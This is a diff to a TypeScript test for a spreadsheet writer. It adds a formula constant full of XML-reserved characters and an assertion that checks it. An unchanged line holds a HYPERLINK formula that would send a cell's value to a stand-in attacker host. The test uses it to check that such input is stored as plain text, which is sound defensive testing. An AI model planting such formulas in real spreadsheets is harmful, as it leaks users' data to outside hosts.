@@ -20,6 +20,8 @@ import { recalculate, rawValues } from "../scoringSheet/libreOffice";
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?u="&B2,"详情")';
 const CONTROL = "响铃\u0007与_x0041_";
+/** A formula with each character XML reserves in element content, and quotes (written as they are). */
+const COMPARE = 'IF(AND(B3<10,B3<>""),"低","高"&"")';
 
 const SPEC: SheetSpec = {
   name: "写出",
@@ -27,7 +29,7 @@ const SPEC: SheetSpec = {
     [value("写出 测试", "title"), value(null), value(null), value(null)],
     [value("文字", "header"), value("数值", "header"), value("公式", "header"), value("链接", "header")],
     [value(HYPERLINK, "input"), value(12.5, "input"), formula("B3*2", 25, "total"), link("源表!C7", "源表", "C7")],
-    [value(CONTROL), value(-0), formula('IF(B3>10,"高","低")', "高"), value("#N/A", undefined, undefined)],
+    [value(CONTROL), value(-0), formula(COMPARE, "高"), value("#N/A", undefined, undefined)],
     [value("  两端空格  \n第二行"), value(true), value("+86 0912 1234567"), value(0.117, "percent")],
   ],
   merges: [{ top: 0, left: 0, bottom: 0, right: 3 }],
@@ -91,6 +93,7 @@ describe.each(["blank", "exceljs"] as const)("a sheet written into %s workbook",
     expect(ws.getCell("A3").numFmt).toBe("@");
     expect(ws.getCell("C5").numFmt).toBe("@");
     expect(ws.getCell("C3").value).toEqual({ formula: "B3*2", result: 25 });
+    expect(ws.getCell("C4").value).toEqual({ formula: COMPARE, result: "高" });
     expect(ws.getCell("D4").value).toEqual({ error: "#N/A" });
     expect(ws.getCell("D5").numFmt).toBe("0.00%");
     expect(ws.getCell("A1").font).toMatchObject({ name: "宋体", size: 14, bold: true });
